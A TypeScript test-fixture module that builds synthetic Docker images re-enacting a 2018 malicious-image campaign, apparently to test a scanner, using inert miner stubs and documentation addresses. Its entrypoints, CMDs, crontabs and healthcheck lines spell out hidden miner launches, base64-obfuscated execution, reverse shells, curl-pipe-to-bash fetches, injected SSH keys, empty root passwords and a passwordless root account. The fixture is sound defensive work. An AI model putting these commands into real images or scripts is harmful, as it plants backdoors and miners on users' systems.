import { moneroAddress } from '../testkit/addresses.ts';
import type { ImageSpec, Step } from '../testkit/image.ts';
import { debianRoot, file, PATH, program, script } from './rootfs.ts';

/*
 * The campaign of 2018, told again with inert material: seventeen images that pose as Tomcat, MySQL and cron,
 * nine with a "miner" inside (an ELF header with marker strings, no code), the others misconfigured on purpose.
 * One wallet, made up here with a valid checksum and no owner, ties the nine together. Hosts are example
 * domains and documentation addresses.
 */

export const CAMPAIGN_WALLET = moneroAddress('the 2018 campaign, re-enacted');
const POOL = 'pool.minexmr.com:4444';
/** RFC 5737, TEST-NET-3. */
const SERVER = '203.0.113.18';

export interface NamedImage {
  readonly name: string;
  readonly spec: ImageSpec;
}

const ROOT: Step = {
  createdBy:
    '/bin/sh -c #(nop) ADD file:7d2f4a1b8c3e5d6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f in / ',
  items: debianRoot(),
};
const SHELL: Step = { createdBy: '/bin/sh -c #(nop)  CMD ["bash"]' };

/** What such a program's read-only data looks like: usage, algorithms, protocol words. */
const MINER_STRINGS = [
  'Usage: %s [OPTIONS]',
  '  -o, --url=URL            URL of mining server',
  '  -u, --user=USERNAME      username for mining server',
  '      --donate-level=N     donate level, default 5%%',
  '      --cpu-priority       set process priority',
  'stratum+tcp://',
  'cryptonight-lite',
  'cryptonight/xtl',
  'randomx',
  'huge pages are not available',
  '{"id":%d,"jsonrpc":"2.0","method":"submit","params":{"id":"%s","job_id":"%s","nonce":"%s","result":"%s"}}',
  'new job from %s:%d diff %d',
  'speed 10s/60s/15m',
];

function miner(path: string): ReturnType<typeof program> {
  return program(path, MINER_STRINGS);
}

function minerConfig(path: string): ReturnType<typeof file> {
  return file(path, [
    '{',
    '    "algo": "cryptonight",',
    '    "background": true,',
    '    "donate-level": 1,',
    '    "retries": 5,',
    `    "pools": [ { "url": "${POOL}", "user": "${CAMPAIGN_WALLET}", "pass": "x", "keepalive": true } ]`,
    '}',
  ]);
}

const TOMCAT: Step = {
  createdBy: '/bin/sh -c apt-get update && apt-get install -y openjdk-8-jre-headless && tar xf tomcat.tar.gz',
  items: [
    program('usr/bin/java'),
    script('usr/local/tomcat/bin/catalina.sh', [
      '#!/bin/sh',
      'exec java -classpath /usr/local/tomcat/lib/bootstrap.jar org.apache.catalina.startup.Bootstrap "$@"',
    ]),
    file('usr/local/tomcat/conf/server.xml', ['<Server port="8005" shutdown="SHUTDOWN"></Server>']),
  ],
};
const MYSQL: Step = {
  createdBy: '/bin/sh -c apt-get update && apt-get install -y mysql-server && rm -rf /var/lib/apt/lists/*',
  items: [program('usr/sbin/mysqld'), file('etc/mysql/my.cnf', ['[mysqld]', 'datadir = /var/lib/mysql'])],
};
const CRON: Step = {
  createdBy: '/bin/sh -c apt-get update && apt-get install -y cron curl wget',
  items: [
    program('usr/sbin/cron'),
    program('usr/bin/curl'),
    program('usr/bin/wget'),
    file('etc/crontab', ['SHELL=/bin/sh']),
  ],
};
const SSHD: Step = {
  createdBy: '/bin/sh -c apt-get update && apt-get install -y openssh-server && mkdir /run/sshd',
  items: [
    program('usr/sbin/sshd'),
    file('etc/ssh/sshd_config', ['PermitRootLogin yes', 'PasswordAuthentication yes']),
  ],
};

function image(
  name: string,
  app: readonly Step[],
  own: readonly Step[],
  config: ImageSpec['config'],
): NamedImage {
  return {
    name,
    spec: {
      steps: [ROOT, SHELL, ...app, ...own],
      config: { Env: [PATH], ...config },
      docker: true,
      created: '2018-02-11T09:20:00Z',
    },
  };
}

function copy(what: string, items: Step['items']): Step {
  return { createdBy: `/bin/sh -c #(nop) COPY ${what} `, items: items ?? [] };
}

const ENTRYPOINT: Step = { createdBy: '/bin/sh -c #(nop)  ENTRYPOINT ["/entrypoint.sh"]' };
const CATALINA = '/usr/local/tomcat/bin/catalina.sh run';

/** Nine images that carry the miner, each hidden in another way. */
export function miningImages(): readonly NamedImage[] {
  const commandLine = `-o stratum+tcp://${POOL} -u ${CAMPAIGN_WALLET} -p x -k --donate-level 1`;
  return [
    image(
      'demo2018/tomcat:latest',
      [TOMCAT],
      [
        copy('dir:1f in /usr/local/tomcat/temp', [
          miner('usr/local/tomcat/temp/catalina-agent'),
          minerConfig('usr/local/tomcat/temp/config.json'),
        ]),
        copy('file:2e in /entrypoint.sh', [
          script('entrypoint.sh', [
            '#!/bin/bash',
            'cd /usr/local/tomcat/temp',
            'nohup ./catalina-agent -c config.json >/dev/null 2>&1 &',
            `exec ${CATALINA}`,
          ]),
        ]),
        ENTRYPOINT,
      ],
      { Entrypoint: ['/entrypoint.sh'], ExposedPorts: { '8080/tcp': {} } },
    ),
    image(
      'demo2018/tomcat11:latest',
      [TOMCAT],
      [
        copy('file:3a in /usr/bin/nodjs', [miner('usr/bin/nodjs')]),
        { createdBy: `/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "nodjs ${commandLine} & ${CATALINA}"]` },
      ],
      { Cmd: ['/bin/sh', '-c', `nodjs ${commandLine} & ${CATALINA}`] },
    ),
    image(
      'demo2018/tomcat22:latest',
      [TOMCAT],
      [
        copy('file:4b in /var/tmp/.X11-unix/java', [
          miner('var/tmp/.X11-unix/java'),
          minerConfig('var/tmp/.X11-unix/java.json'),
        ]),
        copy('file:4c in /entrypoint.sh', [
          script('entrypoint.sh', [
            '#!/bin/sh',
            '/var/tmp/.X11-unix/java --config=/var/tmp/.X11-unix/java.json -B',
            `exec ${CATALINA}`,
          ]),
        ]),
        ENTRYPOINT,
      ],
      { Entrypoint: ['/entrypoint.sh'] },
    ),
    image(
      'demo2018/mysql:latest',
      [MYSQL],
      [
        { createdBy: `/bin/sh -c #(nop)  ENV POOL_URL=stratum+tcp://${POOL} POOL_USER=${CAMPAIGN_WALLET}` },
        copy('file:5d in /usr/sbin/mysqld-helper', [miner('usr/sbin/mysqld-helper')]),
        copy('file:5e in /entrypoint.sh', [
          script('entrypoint.sh', [
            '#!/bin/bash',
            'mysqld-helper -o "$POOL_URL" -u "$POOL_USER" -p x &',
            'exec mysqld --user=mysql',
          ]),
        ]),
        ENTRYPOINT,
      ],
      {
        Env: [PATH, `POOL_URL=stratum+tcp://${POOL}`, `POOL_USER=${CAMPAIGN_WALLET}`],
        Entrypoint: ['/entrypoint.sh'],
      },
    ),
    image(
      'demo2018/mysql2:latest',
      [MYSQL],
      [
        copy('file:6f in /usr/lib/mysql/plugin/auth.so', [miner('usr/lib/mysql/plugin/auth.so')]),
        copy('file:6a in /entrypoint.sh', [
          script('entrypoint.sh', [
            '#!/bin/bash',
            `echo ${Buffer.from(`/usr/lib/mysql/plugin/auth.so ${commandLine} &`).toString('base64')} | base64 -d | sh`,
            'exec mysqld --user=mysql',
          ]),
        ]),
        ENTRYPOINT,
      ],
      { Entrypoint: ['/entrypoint.sh'] },
    ),
    image(
      'demo2018/mysql3:latest',
      [MYSQL],
      [
        copy('file:7b in /opt/.cache/kworker', [
          miner('opt/.cache/kworker'),
          minerConfig('opt/.cache/config.json'),
        ]),
        { createdBy: '/bin/sh -c rm -rf /opt/.cache', items: [{ path: 'opt/.wh..cache' }] },
        { createdBy: '/bin/sh -c #(nop)  CMD ["mysqld"]' },
      ],
      { Cmd: ['mysqld'] },
    ),
    image(
      'demo2018/cron:latest',
      [CRON],
      [
        copy('file:8c in /usr/bin/kthreadd', [miner('usr/bin/kthreadd')]),
        {
          createdBy: '/bin/sh -c echo "* * * * * root /usr/bin/kthreadd …" > /etc/cron.d/backup',
          items: [
            file('etc/cron.d/backup', [`* * * * * root pgrep kthreadd || /usr/bin/kthreadd ${commandLine}`]),
          ],
        },
        { createdBy: '/bin/sh -c #(nop)  CMD ["cron" "-f"]' },
      ],
      { Cmd: ['cron', '-f'] },
    ),
    image(
      'demo2018/cronm:latest',
      [CRON],
      [
        copy('file:9d in /usr/local/bin/ntpd', [miner('usr/local/bin/ntpd')]),
        { createdBy: '/bin/sh -c #(nop)  HEALTHCHECK …' },
        { createdBy: '/bin/sh -c #(nop)  CMD ["cron" "-f"]' },
      ],
      { Cmd: ['cron', '-f'], Healthcheck: { Test: ['CMD-SHELL', `pgrep ntpd || ntpd ${commandLine} -B`] } },
    ),
    image(
      'demo2018/cronnn:latest',
      [CRON],
      [
        copy('dir:ae in /etc/supervisor', [
          program('usr/bin/supervisord'),
          miner('usr/lib/udev/udevd-worker'),
          file('etc/supervisor/supervisord.conf', [
            '[supervisord]',
            'nodaemon=true',
            '',
            '[program:udev]',
            `command=/usr/lib/udev/udevd-worker ${commandLine}`,
            'autorestart=true',
          ]),
        ]),
        { createdBy: '/bin/sh -c #(nop)  CMD ["supervisord" "-c" "/etc/supervisor/supervisord.conf"]' },
      ],
      { Cmd: ['supervisord', '-c', '/etc/supervisor/supervisord.conf'] },
    ),
  ];
}

/** Eight images left open on purpose, to be used later. */
export function openImages(): readonly NamedImage[] {
  const attackerKey = `ssh-rsa ${sshKeyBlob()} root@example`;
  return [
    image(
      'demo2018/tomcat33:latest',
      [TOMCAT],
      [
        copy('file:b1 in /entrypoint.sh', [
          script('entrypoint.sh', [
            '#!/bin/bash',
            `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${SERVER}",8888));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);' &`,
            `exec ${CATALINA}`,
          ]),
        ]),
        ENTRYPOINT,
      ],
      { Entrypoint: ['/entrypoint.sh'] },
    ),
    image(
      'demo2018/tomcat44:latest',
      [TOMCAT],
      [
        {
          createdBy: `/bin/sh -c #(nop)  CMD ["/bin/bash" "-c" "bash -i >& /dev/tcp/${SERVER}/443 0>&1 & ${CATALINA}"]`,
        },
      ],
      { Cmd: ['/bin/bash', '-c', `bash -i >& /dev/tcp/${SERVER}/443 0>&1 & ${CATALINA}`] },
    ),
    image(
      'demo2018/mysql4:latest',
      [MYSQL, SSHD],
      [
        {
          createdBy: '/bin/sh -c mkdir -p /root/.ssh && echo "ssh-rsa AAAA…" > /root/.ssh/authorized_keys',
          items: [file('root/.ssh/authorized_keys', [attackerKey], 0o600)],
        },
        { createdBy: '/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "/usr/sbin/sshd && exec mysqld"]' },
      ],
      {
        Cmd: ['/bin/sh', '-c', '/usr/sbin/sshd && exec mysqld'],
        ExposedPorts: { '22/tcp': {}, '3306/tcp': {} },
      },
    ),
    image(
      'demo2018/mysql5:latest',
      [MYSQL, SSHD],
      [
        {
          createdBy:
            "/bin/sh -c passwd -d root && sed -i 's/#PermitEmptyPasswords no/PermitEmptyPasswords yes/' /etc/ssh/sshd_config",
          items: [
            file('etc/shadow', ['root::17710:0:99999:7:::', 'daemon:*:17710:0:99999:7:::'], 0o640),
            file('etc/ssh/sshd_config', ['PermitRootLogin yes', 'PermitEmptyPasswords yes']),
          ],
        },
        { createdBy: '/bin/sh -c #(nop)  CMD ["/bin/sh" "-c" "/usr/sbin/sshd && exec mysqld"]' },
      ],
      { Cmd: ['/bin/sh', '-c', '/usr/sbin/sshd && exec mysqld'] },
    ),
    image(
      'demo2018/mysql6:latest',
      [MYSQL],
      [
        copy('file:b5 in /docker-entrypoint.sh', [
          script('docker-entrypoint.sh', [
            '#!/bin/bash',
            'set -e',
            `curl -fsSL http://${SERVER}/mysql-setup.sh | bash`,
            'exec "$@"',
          ]),
        ]),
        { createdBy: '/bin/sh -c #(nop)  ENTRYPOINT ["/docker-entrypoint.sh"]' },
        { createdBy: '/bin/sh -c #(nop)  CMD ["mysqld"]' },
      ],
      { Entrypoint: ['/docker-entrypoint.sh'], Cmd: ['mysqld'] },
    ),
    image(
      'demo2018/crondata:latest',
      [CRON],
      [
        {
          createdBy: '/bin/sh -c crontab /tmp/root.cron',
          items: [
            file(
              'var/spool/cron/crontabs/root',
              [`*/5 * * * * curl -s http://${SERVER}/logo.jpg | bash -s`],
              0o600,
            ),
          ],
        },
        { createdBy: '/bin/sh -c #(nop)  CMD ["cron" "-f"]' },
      ],
      { Cmd: ['cron', '-f'] },
    ),
    image(
      'demo2018/cronmem:latest',
      [CRON],
      [
        {
          createdBy: '/bin/sh -c echo "…" >> /etc/crontab',
          items: [
            file('etc/crontab', [
              'SHELL=/bin/bash',
              `*/10 * * * * root rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${SERVER} 4444 >/tmp/f`,
            ]),
          ],
        },
        { createdBy: '/bin/sh -c #(nop)  CMD ["cron" "-f"]' },
      ],
      { Cmd: ['cron', '-f'] },
    ),
    image(
      'demo2018/crontest:latest',
      [CRON],
      [
        {
          createdBy: "/bin/sh -c echo 'support::0:0::/root:/bin/bash' >> /etc/passwd",
          items: [
            file('etc/passwd', [
              'root:x:0:0:root:/root:/bin/bash',
              'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
              'support::0:0::/root:/bin/bash',
            ]),
            file('root/.ssh/authorized_keys', [attackerKey], 0o600),
          ],
        },
        { createdBy: '/bin/sh -c #(nop)  CMD ["cron" "-f"]' },
      ],
      { Cmd: ['cron', '-f'] },
    ),
  ];
}

/** The shape of an RSA public key; its numbers are zeros and ones, so that no private key belongs to it. */
function sshKeyBlob(): string {
  const field = (bytes: Buffer): Buffer => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const modulus = Buffer.alloc(257, 0x01);
  modulus[0] = 0;
  return Buffer.concat([
    field(Buffer.from('ssh-rsa')),
    field(Buffer.from([1, 0, 1])),
    field(modulus),
  ]).toString('base64');
}
